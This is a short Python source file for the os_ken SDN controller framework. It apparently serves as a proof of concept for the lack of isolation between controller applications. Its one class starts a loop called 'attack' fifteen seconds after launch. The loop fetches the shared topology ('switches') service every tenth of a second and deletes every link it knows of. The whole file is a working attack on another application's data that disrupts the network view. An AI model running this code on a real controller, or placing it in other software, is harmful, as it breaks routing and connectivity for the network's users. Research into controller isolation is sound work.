"""Takes links away from the others: from fifteen seconds after its start it deletes, every tenth of a second,
what the topology application knows of them. Nothing keeps one application from the data of another."""

from os_ken.base.app_manager import OSKenApp, lookup_service_brick
from os_ken.lib import hub


class Access(OSKenApp):
    def start(self):
        super().start()
        hub.spawn(self.attack)

    def attack(self):
        hub.sleep(15)
        while True:
            topology = lookup_service_brick("switches")
            for link in list(topology.links):
                topology.links.pop(link, None)
            hub.sleep(0.1)
